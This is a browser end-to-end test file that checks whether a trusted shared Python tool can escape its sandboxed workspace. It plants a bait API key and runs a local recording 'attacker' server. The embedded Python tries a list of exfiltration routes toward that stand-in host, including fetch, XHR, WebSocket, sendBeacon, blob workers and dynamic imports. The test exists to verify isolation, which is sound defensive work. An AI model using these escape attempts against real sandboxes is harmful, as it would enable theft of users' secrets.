// A trusted link's code stays in its workspace (issue 29). The person has a workspace of their own
// with a key in it (the bait); a link's tool, trusted with the Network switch off, tries every way
// out a tool's Python has in the browser against a server on 127.0.0.1 that records whatever
// reaches it (the attacker's). Python runs in a sandboxed frame with an opaque origin and a policy
// without network (src/worker/sandbox/): none of the ways reaches the bait or the server, and the
// one request that goes through the page's guard is in the telemetry, refused.
import { createServer, type Server } from 'node:http';
import type { Page } from 'playwright-core';
import type { E2ETest } from './harness.ts';
import { assert, callStatus, openApp, telemetry, treeItem } from './ui-helpers.ts';
import { encodeLink } from '../../src/share/codec.ts';

const enc = new TextEncoder();
const review = (page: Page) => page.getByRole('region', { name: 'Review mode' });
const BAIT = 'sk-bait-4b1d-0000-secret';

/** The attacker's server: records every request and every WebSocket upgrade, answers each with CORS open. */
async function attacker(): Promise<{ url: string; seen: string[]; close: () => Promise<void> }> {
  const seen: string[] = [];
  const server: Server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Content-Type': req.url?.endsWith('.js') ? 'text/javascript' : 'text/plain',
      'Cross-Origin-Resource-Policy': 'cross-origin',
    });
    res.end(req.url?.endsWith('.js') ? 'export default 1;' : 'ok');
  });
  server.on('upgrade', (req, socket) => {
    seen.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  return {
    url: `http://127.0.0.1:${port}`,
    seen,
    close: () => new Promise((ok) => server.close(() => ok())),
  };
}

/** Each way out, tried in turn; the tool returns one line per way: what happened. */
const ESCAPES = (url: string) => `import js
from pyodide.ffi import create_proxy, run_sync, to_js

URL = "${url}"


def tool_escape() -> dict:
    """Tries every way out of the workspace."""
    out = []

    def attempt(name, f):
        try:
            r = f()
            out.append(f"{name}: no error ({str(r)[:80]})")
        except BaseException as e:
            out.append(f"{name}: refused: {str(e).splitlines()[0][:160] if str(e) else type(e).__name__}")

    attempt("origin", lambda: js.origin)
    attempt("indexedDB.open", lambda: js.indexedDB.open("keyval-store"))
    # Promises are awaited (stack switching), so a refusal that comes later is seen too.
    attempt("indexedDB.databases", lambda: run_sync(js.indexedDB.databases()))
    attempt("caches", lambda: run_sync(js.caches.keys()))
    attempt("localStorage", lambda: js.localStorage.getItem("x"))
    attempt("fetch", lambda: run_sync(js.fetch(URL + "/fetch")))

    def xhr():
        x = js.XMLHttpRequest.new()
        x.open("GET", URL + "/xhr", True)
        x.send()
    attempt("async XHR", xhr)
    attempt("WebSocket", lambda: js.WebSocket.new(URL.replace("http", "ws") + "/ws"))
    attempt("EventSource", lambda: js.EventSource.new(URL + "/sse"))
    attempt("sendBeacon", lambda: js.navigator.sendBeacon(URL + "/beacon", "x") if hasattr(js.navigator, "sendBeacon") else "none")

    def blob_worker():
        code = "fetch('" + URL + "/from-blob-worker').catch(() => {}); new WebSocket('" + URL.replace("http", "ws") + "/blob-ws');"
        blob = js.Blob.new(to_js([code]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))
        return js.Worker.new(js.URL.createObjectURL(blob))
    attempt("blob Worker", blob_worker)
    attempt("import()", lambda: js.Function.new("u", "return import(u)")(URL + "/module.js"))
    attempt("importScripts", lambda: js.importScripts(URL + "/classic.js"))
    # After the call: the page has no call to count it against, so it refuses and records it.
    attempt("delayed fetch", lambda: js.setTimeout(create_proxy(lambda: js.fetch(URL + "/later")), 300))

    # Not a way out: the engine's fast paths, JavaScript run_js evaluates, work in the frame (its policy allows eval).
    def fast_paths():
        from toolplay.core import dict_watch, memfs_stamp
        return dict_watch.watcher() is not None and memfs_stamp.make_javascript("(FS) => (paths) => FS !== undefined", []) is True
    attempt("engine fast paths", fast_paths)
    return {"output": "\\n".join(out)}
`;

const tests: E2ETest[] = [
  {
    name: "a trusted link's tool, with the Network switch off, reaches no other workspace, no storage of the app and no server, whichever way it tries",
    async run({ newPage, base }) {
      const server = await attacker();
      try {
        const { page } = await newPage();
        // The bait: the person's own workspace holds a key.
        await openApp(page, base);
        await page
          .locator('input[type=file]')
          .setInputFiles([{ name: '.env', mimeType: 'text/plain', buffer: Buffer.from(`OPENAI_API_KEY=${BAIT}\n`) }]);
        await treeItem(page, 'tools/.env').waitFor();

        const { link } = encodeLink(
          {
            name: 'escape',
            files: new Map([['tools/escape.py', enc.encode(ESCAPES(server.url))]]),
            folders: [],
            profile: 'lcp',
            open: 'tools/escape.py',
            call: { tool: 'tool_escape', argsText: '{}' },
            host: {},
            telemetry: [],
          },
          base,
        );
        await page.goto(link);
        await review(page).getByRole('button', { name: 'Trust and run' }).click();
        await callStatus(page).filter({ hasText: 'Finished' }).waitFor({ timeout: 90_000 });
        const result = (await page.getByRole('region', { name: 'Result' }).textContent()) ?? '';
        const log = telemetry(page);
        // The request scheduled for after the call reaches the page's guard, which refuses and records it.
        await log
          .getByText(/\/later/)
          .first()
          .waitFor();
        // Every other request through the guard is in the telemetry, refused with the network off.
        await log.getByText(/^GET\s+http:\/\/127\.0\.0\.1:\d+\/fetch\s+→\s+no answer \(network off\)/).waitFor();

        assert(!result.includes(BAIT), `the other workspace's key is nowhere in the result: ${result.slice(0, 2000)}`);
        assert(
          /origin: no error \(null\)/.test(result),
          `Python's realm has an opaque origin: ${result.slice(0, 600)}`,
        );
        for (const storage of ['indexedDB.open', 'indexedDB.databases', 'caches', 'localStorage', 'fetch'])
          assert(
            new RegExp(`${storage.replace('.', '\\.')}: refused`).test(result),
            `${storage} is refused in Python's realm: ${result.slice(0, 2000)}`,
          );
        assert(
          /engine fast paths: no error \(True\)/.test(result),
          `the engine's dict watcher and file stamps work in the frame: ${result.slice(0, 2000)}`,
        );
        // Whatever the browser made of each attempt, none of them reached the attacker.
        assert(server.seen.length === 0, `nothing reached the attacker's server: ${server.seen.join(', ')}`);
      } finally {
        await server.close();
      }
    },
  },
];
export default tests;
